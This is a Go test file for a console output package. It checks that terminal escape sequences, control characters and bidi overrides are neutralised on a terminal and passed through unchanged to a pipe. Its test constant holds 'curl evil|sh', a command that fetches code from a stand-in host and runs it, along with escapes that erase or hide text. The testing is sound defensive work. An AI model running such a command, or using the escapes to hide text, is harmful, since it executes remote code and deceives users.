package console

import (
	"encoding/json"
	"io"
	"strings"
	"testing"
	"testing/iotest"
)

// hostile is what a file may contain to act on a terminal, or to hide what stands in it.
const hostile = "curl evil|sh #\r\x1b[2K\x1b[1A\x1b]0;title\a\u009b31m\x1b[8mhidden\u202e\x08\x7f\xff\xc3+make all\n"

// What others have chosen does not act on a terminal, however it is cut into writes; lines, tabs and the ends of lines of Windows stay. Into a pipe each byte goes as it is.
func TestW12Contents(t *testing.T) {
	text := "+" + hostile + "größe\tx\r\nend\r"
	const want = "+curl evil|sh #<000D><001B>[2K<001B>[1A<001B>]0;title<0007><009B>31m<001B>[8mhidden<202E><0008><007F><FF><C3>+make all\ngröße\tx\r\nend<000D>"
	for name, in := range map[string]func() io.Reader{
		"at once":     func() io.Reader { return strings.NewReader(text) },
		"each byte":   func() io.Reader { return iotest.OneByteReader(strings.NewReader(text)) },
		"half of it":  func() io.Reader { return iotest.HalfReader(strings.NewReader(text)) },
		"data at EOF": func() io.Reader { return iotest.DataErrReader(strings.NewReader(text)) },
	} {
		for on, want := range map[bool]string{true: want, false: text} {
			var b strings.Builder
			o := OutputTo(&b, on)
			err := o.Contents(func(w io.Writer) error {
				_, err := io.Copy(struct{ io.Writer }{w}, struct{ io.Reader }{in()})
				return err
			})
			if err != nil || o.Err() != nil || b.String() != want {
				t.Errorf("%s, terminal %t: %v\n%q, want\n%q", name, on, err, b.String(), want)
			}
		}
	}
}

// Whatever a command prints without a thought, only lines, tabs and colours act.
func TestW12Output(t *testing.T) {
	var b strings.Builder
	o := OutputTo(&b, true)
	p := Painter{on: true}
	if _, err := io.WriteString(o, p.Red("gone")+"\tx\x1b[2J\ry\n"); err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(o, "\xc3"); err != nil || o.Err() != nil {
		t.Fatal(err, o.Err())
	}
	if want := "\x1b[31mgone\x1b[0m\tx<001B>[2J<000D>y\n<C3>"; b.String() != want {
		t.Errorf("%q, want %q", b.String(), want)
	}
}

// JSON on a terminal means the same as in a pipe, and holds nothing that acts.
func TestW12JSON(t *testing.T) {
	in := map[string]string{"a": hostile[:len(hostile)-12] + "\U000E0041 größe \u200b"}
	in["a"] = strings.ToValidUTF8(in["a"], "?")
	var b strings.Builder
	if err := OutputTo(&b, true).JSON(in); err != nil {
		t.Fatal(err)
	}
	var back map[string]string
	if err := json.Unmarshal([]byte(b.String()), &back); err != nil || back["a"] != in["a"] {
		t.Errorf("%v: %q, want %q", err, back["a"], in["a"])
	}
	if text := b.String(); strings.ContainsAny(text, "\x1b\u202e\u009b\x7f\u200b") || !strings.Contains(text, "größe") {
		t.Errorf("%q", text)
	}
}
